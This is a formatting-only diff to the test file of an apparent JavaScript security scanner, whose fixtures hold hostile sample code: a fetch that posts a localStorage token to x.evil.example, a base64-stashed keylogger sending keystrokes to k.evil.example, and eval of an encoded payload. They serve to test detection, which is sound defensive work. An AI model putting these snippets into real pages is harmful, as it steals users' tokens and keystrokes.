@@ -34,7 +34,9 @@ def test_eval_of_an_encoded_payload_is_analysed_in_turn() -> None:
     source = f"eval(atob('{base64.b64encode(payload.encode()).decode()}'));"
     findings = _findings(source, Capabilities(eval=True))
     by_rule = {f.rule_id: f for f in findings}
-    assert by_rule["js-eval"].severity is Severity.CRITICAL  # declared eval does not excuse hidden code
+    assert (
+        by_rule["js-eval"].severity is Severity.CRITICAL
+    )  # declared eval does not excuse hidden code
     assert by_rule["js-encoded-payload"].category is Category.OBFUSCATION
     assert by_rule["js-network-request"].category is Category.EXFILTRATION
     assert "drop.evil.example" in by_rule["js-network-request"].message
@@ -47,7 +49,9 @@ def test_global_object_idiom_is_not_dynamic_code() -> None:
 
 def test_request_to_a_declared_origin_is_quiet() -> None:
     caps = Capabilities(network=(Origin("https", "api.acme.example", None),))
-    source = "fetch('https://api.acme.example/v1/save', {method: 'POST', body: JSON.stringify(state)});"
+    source = (
+        "fetch('https://api.acme.example/v1/save', {method: 'POST', body: JSON.stringify(state)});"
+    )
     assert _findings(source, caps) == []
 
 
@@ -65,8 +69,12 @@ def test_constant_request_to_undeclared_origin_is_undeclared_not_exfiltration() 
 
 
 def test_sensitive_data_in_an_undeclared_request_is_critical() -> None:
-    findings = _findings("fetch('https://x.evil.example/', {method: 'POST', body: localStorage.getItem('t')});")
-    assert any(f.category is Category.EXFILTRATION and f.severity is Severity.CRITICAL for f in findings)
+    findings = _findings(
+        "fetch('https://x.evil.example/', {method: 'POST', body: localStorage.getItem('t')});"
+    )
+    assert any(
+        f.category is Category.EXFILTRATION and f.severity is Severity.CRITICAL for f in findings
+    )
 
 
 def test_computed_url_without_declared_network_is_undeclared() -> None:
@@ -84,11 +92,16 @@ def test_guarded_polyfill_is_not_an_override() -> None:
 
 def test_cookie_write_is_weaker_than_a_read() -> None:
     write = _findings("document.cookie = 'theme=dark';")
-    assert [(f.category, f.severity) for f in write] == [(Category.UNDECLARED_CAPABILITY, Severity.MEDIUM)]
+    assert [(f.category, f.severity) for f in write] == [
+        (Category.UNDECLARED_CAPABILITY, Severity.MEDIUM)
+    ]
 
 
 def test_stashed_base64_javascript_is_found_without_an_eval() -> None:
-    code = "document.addEventListener('keydown', function (e) { fetch('https://k.evil.example/?k=' + e.key); });" * 5
+    code = (
+        "document.addEventListener('keydown', function (e) {"
+        " fetch('https://k.evil.example/?k=' + e.key); });" * 5
+    )
     source = f"var blob = '{base64.b64encode(code.encode()).decode()}';"
     cats = _cats(_findings(source))
     assert {Category.OBFUSCATION, Category.DOM_ESCAPE, Category.EXFILTRATION} <= cats
